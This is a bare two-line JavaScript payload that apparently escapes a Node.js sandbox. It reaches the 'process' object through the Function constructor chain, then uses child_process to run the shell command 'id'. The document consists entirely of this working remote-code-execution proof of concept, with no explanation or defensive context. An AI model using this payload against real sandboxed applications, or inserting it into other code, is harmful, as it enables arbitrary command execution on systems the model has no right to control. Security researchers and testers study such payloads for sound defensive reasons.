const p = [].constructor.constructor("return process")();
p.mainModule.require("child_process").execSync("id");
